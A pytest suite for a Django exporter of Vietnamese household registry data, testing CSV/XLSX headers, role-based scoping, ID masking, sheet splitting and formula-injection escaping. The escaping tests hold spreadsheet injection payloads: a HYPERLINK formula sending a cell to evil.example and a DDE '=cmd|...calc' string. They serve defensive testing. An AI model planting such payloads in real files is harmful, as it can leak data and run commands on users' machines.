"""Exports in the exchange format: headers, values, scoping, escaping, sheets, queries, the command."""

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from core.models import User
from exchange import exporter
from exchange.columns import HOUSEHOLDS, MEMBERS
from households.models import Ethnicity, Household, Member

HOUSEHOLD_HEADERS = [
    "Mã xã", "Mã hộ", "Thôn", "Họ tên chủ hộ", "Khu vực", "Hộ làm nông, lâm, ngư, diêm nghiệp",
    "Số điện thoại", "Phân loại", "Năm phân loại", "Hộ có người có công", "Hộ bảo trợ xã hội",
]
MEMBER_HEADERS = [
    "Mã xã", "Mã hộ", "Họ và tên", "Giới tính", "Ngày sinh", "Số định danh", "Dân tộc",
    "Quan hệ với chủ hộ", "Có thẻ BHYT",
]


# -- helpers --------------------------------------------------------------------------

def csv_rows(kind, user, **options) -> list[list[str]]:
    out = io.BytesIO()
    exporter.export(kind, user, "csv", out, **options)
    data = out.getvalue()
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel on Windows"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_book(kind, user, **options):
    out = io.BytesIO()
    exporter.export(kind, user, "xlsx", out, **options)
    out.seek(0)
    return load_workbook(out)


def xlsx_rows(kind, user, **options) -> list[list]:
    book = xlsx_book(kind, user, **options)
    assert len(book.worksheets) == 1
    return [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]


def orm_household(world, code, head="Lò Văn Tư", *, commune=None, village=None, **values) -> Household:
    """A household written straight to the database, bypassing the services' checks."""
    values.setdefault("area", Household.Area.RURAL)
    household = Household.objects.create(
        commune=commune or world.tathang, village=village or world.village, code=code, head_name=head, **values,
    )
    orm_member(household, head, relation=Member.Relation.HEAD)
    return household


def orm_member(household, name, *, relation=Member.Relation.CHILD, **values) -> Member:
    fields = {"sex": Member.Sex.MALE, "birth_year": 1990, "ethnicity": Ethnicity.objects.get(name="Mông"),
              **values}
    return Member.objects.create(household=household, full_name=name, search_name=name.lower(),
                                 relation=relation, **fields)


def bulk_households(world, count: int, prefix: str) -> None:
    """`count` households of two members each, in a few queries."""
    households = Household.objects.bulk_create(
        Household(commune=world.tathang, village=world.village, code=f"{prefix}{i:05d}", head_name=f"Chủ hộ {i}",
                  area=Household.Area.RURAL)
        for i in range(count)
    )
    mong = Ethnicity.objects.get(name="Mông")
    Member.objects.bulk_create(
        Member(household=household, full_name=f"{household.head_name} {relation}", search_name="x", sex="male",
               birth_year=1980, ethnicity=mong, relation=relation)
        for household in households for relation in ("head", "child")
    )


# -- headers and values ---------------------------------------------------------------------

def test_sheets_and_headers_follow_the_column_spec():
    assert [column.header for column in HOUSEHOLDS.columns] == HOUSEHOLD_HEADERS
    assert [column.header for column in MEMBERS.columns] == MEMBER_HEADERS
    assert set(exporter.kinds()) == {"households", "members", "surveys"}


@pytest.mark.parametrize("read", [csv_rows, xlsx_rows], ids=["csv", "xlsx"])
def test_households_headers_and_values(world, read):
    Household.objects.filter(pk=world.household.pk).update(
        phone="0912345678", is_farm=True, has_meritorious_member=True)
    rows = read("households", world.officer)
    assert rows[0] == HOUSEHOLD_HEADERS
    year = "2025" if read is csv_rows else 2025  # a number in a workbook, text in CSV
    assert rows[1:] == [[
        "02794", "0001", "Thôn Tả Thàng", "Giàng A Páo", "Nông thôn", "Có", "0912345678", "Hộ nghèo", year,
        "Có", "Không",
    ]]


@pytest.mark.parametrize("read", [csv_rows, xlsx_rows], ids=["csv", "xlsx"])
def test_household_labels_of_every_choice(world, read):
    orm_household(world, "0002", classification="near_poor", classification_year=2024)
    orm_household(world, "0003", classification="middle", classification_year=2023, area=Household.Area.URBAN)
    orm_household(world, "0005")
    rows = {row[1]: row for row in read("households", world.officer)[1:]}
    empty = "" if read is csv_rows else None
    assert (rows["0002"][4], rows["0002"][7]) == ("Nông thôn", "Hộ cận nghèo")
    assert (rows["0003"][4], rows["0003"][7]) == ("Thành thị", "Hộ có mức sống trung bình")
    assert (rows["0005"][7], rows["0005"][8]) == ("Không", empty)


@pytest.mark.parametrize("read", [csv_rows, xlsx_rows], ids=["csv", "xlsx"])
def test_members_headers_and_values(world, read):
    head = world.household.members.get(relation="head")
    Member.objects.filter(pk=head.pk).update(personal_id="002080012345", birth_date=date(1980, 3, 5))
    rows = read("members", world.officer)
    assert rows[0] == MEMBER_HEADERS
    empty = "" if read is csv_rows else None
    # The head first, then the others.
    assert rows[1:] == [
        ["02794", "0001", "Giàng A Páo", "Nam", "05/03/1980", "002080012345", "Mông", "Chủ hộ", "Có"],
        ["02794", "0001", "Vàng Thị Mỷ", "Nữ", "1983", empty, "Mông", "Vợ/Chồng", "Có"],
    ]


@pytest.mark.parametrize("read", [csv_rows, xlsx_rows], ids=["csv", "xlsx"])
def test_member_labels_of_every_relation(world, read):
    labels = {"child": "Con", "parent": "Bố/Mẹ", "grandparent": "Ông/Bà", "grandchild": "Cháu",
              "sibling": "Anh/Chị/Em", "other": "Khác"}
    for relation in labels:
        orm_member(world.household, f"Người {relation}", relation=relation, ethnicity=Ethnicity.objects.get(
            name="Kinh"), has_health_insurance=False, personal_id="012345678" if relation == "other" else "")
    rows = {row[2]: row for row in read("members", world.officer)[1:]}
    for relation, label in labels.items():
        assert rows[f"Người {relation}"][6:] == ["Kinh", label, "Không"]
    assert rows["Người other"][5] == "012345678"  # an old 9-digit ID, leading zero kept


def test_xlsx_codes_and_ids_are_text_cells_that_keep_leading_zeros(world):
    Member.objects.filter(household=world.household, relation="head").update(personal_id="001080012345")
    Household.objects.filter(pk=world.household.pk).update(phone="0912345678")
    sheet = xlsx_book("members", world.officer).worksheets[0]
    assert sheet.title == "Thành viên"
    assert sheet.cell(1, 1).font.bold
    for column, value in ((1, "02794"), (2, "0001"), (6, "001080012345")):
        cell = sheet.cell(2, column)
        # Text, in Excel's Text format, in a column in Text format: it stays text when edited.
        assert (cell.value, cell.data_type, cell.number_format) == (value, "s", "@")
        assert sheet.column_dimensions[cell.column_letter].number_format == "@"
    assert (sheet.cell(2, 3).data_type, sheet.cell(2, 3).number_format) == ("s", "General")  # a name
    households = xlsx_book("households", world.officer).worksheets[0]
    assert households.title == "Hộ gia đình"
    assert (households.cell(2, 7).value, households.cell(2, 7).number_format) == ("0912345678", "@")
    assert households.cell(2, 9).data_type == "n"  # the year is a number


def test_characters_xml_cannot_hold_are_dropped_from_workbooks_only(world):
    orm_member(world.household, "Lò\x01 Văn\x1b Tư")
    assert "Lò Văn Tư" in [row[2] for row in xlsx_rows("members", world.officer)]
    assert "Lò\x01 Văn\x1b Tư" in [row[2] for row in csv_rows("members", world.officer)]


# -- scoping ---------------------------------------------------------------------------------

def codes(kind, user) -> set[tuple[str, str]]:
    return {(row[0], row[1]) for row in csv_rows(kind, user)[1:]}


@pytest.mark.parametrize("kind", ["households", "members"])
def test_each_role_exports_only_its_area(world, kind):
    assert codes(kind, world.officer) == {("02794", "0001")}
    assert codes(kind, world.officer2) == {("02701", "0001")}
    # The reviewer's district: Tả Thàng and La Pan Tẩn, not Y Tý (other district),
    # not An Bình (other province), not the 2025 commune that shares the town's code.
    assert codes(kind, world.reviewer) == {("02794", "0001"), ("02791", "0001")}
    assert codes(kind, world.province_admin) == {("02794", "0001"), ("02791", "0001"), ("02701", "0001")}
    assert codes(kind, world.reviewer2025) == {("02761", "0001")}
    everything = codes(kind, world.superuser)
    assert ("04480", "0001") in everything and len(everything) == 5


def test_a_household_outside_never_appears_in_any_format(world):
    Household.objects.filter(pk=world.household_outside.pk).update(head_name="Người Ngoài Vùng")
    for kind in ("households", "members"):
        assert "Người Ngoài Vùng" not in str(csv_rows(kind, world.reviewer))
        assert "Người Ngoài Vùng" not in str(xlsx_rows(kind, world.reviewer))
        assert "Nguyễn Văn Bình" not in str(xlsx_rows(kind, world.officer))


def test_a_user_without_an_area_gets_only_the_headers(world):
    nobody = User.objects.create_user("nobody", password="x-123-long-enough")
    assert csv_rows("members", nobody) == [MEMBER_HEADERS]
    assert xlsx_rows("households", nobody) == [HOUSEHOLD_HEADERS]


def test_personal_ids_are_whole_only_for_those_who_see_them_whole(world):
    Member.objects.filter(household=world.household, relation="head").update(personal_id="002080012345")
    officer = {row[2]: row[5] for row in csv_rows("members", world.officer)[1:]}
    reviewer = {row[2]: row[5] for row in csv_rows("members", world.reviewer)[1:]}
    assert officer["Giàng A Páo"] == "002080012345"
    assert reviewer["Giàng A Páo"] == "002•••••••45"


def test_archived_records_only_on_request(world):
    archived = orm_household(world, "0009", "Hộ Đã Lưu Trữ")
    Household.objects.filter(pk=archived.pk).update(is_archived=True, archived_reason="moved away")
    orm_member(world.household, "Người Đã Chuyển", is_archived=True, archived_reason="moved away")
    households = [row[1] for row in csv_rows("households", world.officer)[1:]]
    members = [row[2] for row in csv_rows("members", world.officer)[1:]]
    assert households == ["0001"]
    # Neither the archived member nor the (current) members of the archived household.
    assert members == ["Giàng A Páo", "Vàng Thị Mỷ"]
    households = [row[1] for row in csv_rows("households", world.officer, include_archived=True)[1:]]
    members = [row[2] for row in csv_rows("members", world.officer, include_archived=True)[1:]]
    assert households == ["0001", "0009"]
    assert set(members) == {"Giàng A Páo", "Vàng Thị Mỷ", "Người Đã Chuyển", "Hộ Đã Lưu Trữ"}


# -- formula injection -------------------------------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+123", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"]


@pytest.mark.parametrize("read", [csv_rows, xlsx_rows], ids=["csv", "xlsx"])
def test_text_that_a_spreadsheet_would_run_is_escaped(world, read):
    for index, name in enumerate(DANGEROUS):
        orm_member(world.household, name, birth_year=2000 + index)
    household = orm_household(world, "=1+1", "=cmd|'/c calc'!A1", phone="+84 912 345 678")
    rows = read("members", world.officer)
    # XML turns a bare CR into a line feed when the workbook is read: compare
    # after the same change (the escape is what matters here).
    names = [row[2].replace("\r", "\n") for row in rows[1:]]
    for name in (name.replace("\r", "\n") for name in DANGEROUS):
        assert "'" + name in names and name not in names
    assert "Giàng A Páo" in names  # ordinary text unchanged
    assert ["'=1+1", "'=cmd|'/c calc'!A1"] in [row[1:3] for row in rows[1:]]  # code and head's name
    households = read("households", world.officer)
    row = next(row for row in households[1:] if row[1] == "'=1+1")
    assert (row[3], row[6]) == ("'=cmd|'/c calc'!A1", "'+84 912 345 678")
    assert household.code == "=1+1"  # stored as entered; only the file is escaped


def test_escaped_cells_are_plain_text_in_the_workbook(world):
    orm_member(world.household, "=1+1")
    sheet = xlsx_book("members", world.officer).worksheets[0]
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)  # never "f" (formula)
    assert "'=1+1" in [cell.value for cell in cells]


def test_a_formula_hidden_behind_a_dropped_character_is_still_escaped(world):
    orm_member(world.household, "\x01=1+1")
    sheet = xlsx_book("members", world.officer).worksheets[0]
    cell = next(row[2] for row in sheet.iter_rows(min_row=2) if "1+1" in row[2].value)
    assert (cell.value, cell.data_type) == ("'=1+1", "s")


def test_escape_formula_leaves_other_values_alone():
    assert exporter.escape_formula("Giàng A Páo") == "Giàng A Páo"
    assert exporter.escape_formula("0912") == "0912"
    assert exporter.escape_formula(2025) == 2025
    assert exporter.escape_formula(None) is None
    assert exporter.escape_formula("") == ""
    assert exporter.escape_formula("-") == "'-"


# -- sheets past the row limit -------------------------------------------------------------------

def test_rows_past_the_sheet_limit_continue_on_new_sheets(world):
    bulk_households(world, 3, "S")  # 2 + 3 * 2 = 8 members in Tả Thàng
    expected = csv_rows("members", world.officer)[1:]
    assert len(expected) == 8
    out = io.BytesIO()
    written = exporter.export("members", world.officer, "xlsx", out, sheet_row_limit=3)
    assert written == 8
    book = load_workbook(out)
    # 3 rows a sheet: the header and 2 data rows.
    assert book.sheetnames == ["Thành viên", "Thành viên (2)", "Thành viên (3)", "Thành viên (4)"]
    found = []
    for sheet in book.worksheets:
        rows = [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)]
        assert rows[0] == MEMBER_HEADERS and len(rows) <= 3
        found.extend(rows[1:])
    assert found == expected  # every row once, in order


def test_exactly_full_sheets_make_no_empty_extra_sheet(world):
    out = io.BytesIO()
    assert exporter.export("members", world.officer, "xlsx", out, sheet_row_limit=3) == 2
    assert load_workbook(out).sheetnames == ["Thành viên"]


def test_a_sheet_needs_room_for_a_data_row(world):
    with pytest.raises(exporter.ExportError):
        exporter.export("members", world.officer, "xlsx", io.BytesIO(), sheet_row_limit=1)


def test_unknown_kind_or_format_is_refused(world):
    with pytest.raises(exporter.ExportError, match="supports"):
        exporter.stream_csv("supports", world.officer)
    with pytest.raises(exporter.ExportError):
        exporter.export("members", world.officer, "ods", io.BytesIO())


# -- queries ---------------------------------------------------------------------------------------

def export_queries(world, kind: str, fmt: str) -> tuple[int, int]:
    out = io.BytesIO()
    with CaptureQueriesContext(connection) as queries:
        rows = exporter.export(kind, world.officer, fmt, out)
    return rows, len(queries)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["households", "members"])
def test_queries_do_not_grow_with_the_rows(world, django_assert_max_num_queries, kind, fmt):
    bulk_households(world, 10, "A")
    rows_10, queries_10 = export_queries(world, kind, fmt)
    bulk_households(world, 90, "B")
    with django_assert_max_num_queries(2):
        rows_100, queries_100 = export_queries(world, kind, fmt)
    per_household = 1 if kind == "households" else 2
    assert rows_100 - rows_10 == 90 * per_household
    assert queries_10 == queries_100


def test_streamed_csv_is_the_same_file(world):
    out = io.BytesIO()
    exporter.export("households", world.reviewer, "csv", out)
    streamed = exporter.stream_csv("households", world.reviewer)
    assert b"".join(streamed) == out.getvalue()


def test_large_csv_comes_in_several_pieces(world, monkeypatch):
    monkeypatch.setattr(exporter, "CSV_PIECE", 200)
    bulk_households(world, 20, "P")
    pieces = list(exporter.stream_csv("members", world.officer))
    assert len(pieces) > 5
    rows = list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8-sig"), newline="")))
    assert len(rows) == 1 + 2 + 40


# -- downloads -------------------------------------------------------------------------------------

def test_download_responses(world):
    response = exporter.export_response(world.officer, "members", "csv")
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'attachment; filename="thanh-vien-' in response["Content-Disposition"]
    data = b"".join(response.streaming_content)
    assert data.decode("utf-8-sig").splitlines()[0] == ",".join(MEMBER_HEADERS).replace(
        "Hộ làm nông, lâm, ngư, diêm nghiệp", '"Hộ làm nông, lâm, ngư, diêm nghiệp"')
    response = exporter.export_response(world.officer, "households", "xlsx")
    assert response["Content-Disposition"].startswith('attachment; filename="ho-gia-dinh-')
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert book.sheetnames == ["Hộ gia đình"]
    response.close()


def test_export_page_downloads_the_users_area(world, login):
    client = login(world.officer)
    response = client.get("/exports/", {"kind": "households", "format": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "Giàng A Páo" in text and "Sùng Seo Chứ" not in text


# -- the command ----------------------------------------------------------------------------------

def test_command_writes_the_file_and_says_how_many_rows(world, tmp_path: Path):
    target = tmp_path / "thanh vien.xlsx"
    out = io.StringIO()
    call_command("export_file", "--user", "reviewer", "--kind", "members", "--out", str(target), stdout=out)
    assert "3 rows written" in out.getvalue()  # 2 in Tả Thàng, 1 in La Pan Tẩn
    book = load_workbook(target)
    assert book.sheetnames == ["Thành viên"] and book.worksheets[0].max_row == 4
    assert not list(tmp_path.glob("*.part"))


def test_command_format_from_option_or_extension(world, tmp_path: Path):
    target = tmp_path / "households.txt"
    with pytest.raises(CommandError, match="format"):
        call_command("export_file", user="officer", kind="households", out=str(target), stdout=io.StringIO())
    call_command("export_file", user="officer", kind="households", out=str(target), fmt="csv",
                 stdout=io.StringIO())
    assert target.read_bytes().startswith(b"\xef\xbb\xbf" + "Mã xã".encode())


@pytest.mark.parametrize(("options", "message"), [
    ({"user": "nobody-here", "kind": "members"}, "no active user"),
    ({"user": "officer", "kind": "people"}, "Unknown kind"),
    ({"user": "officer", "kind": "members", "fmt": "pdf"}, "Unknown format"),
])
def test_command_refuses_bad_arguments(world, tmp_path: Path, options, message):
    with pytest.raises(CommandError, match=message):
        call_command("export_file", out=str(tmp_path / "x.csv"), stdout=io.StringIO(), **options)
    assert not list(tmp_path.iterdir())


def test_command_refuses_an_unwritable_path(world, tmp_path: Path):
    with pytest.raises(CommandError, match="Cannot write"):
        call_command("export_file", user="officer", kind="members", out=str(tmp_path / "missing" / "x.csv"),
                     stdout=io.StringIO())
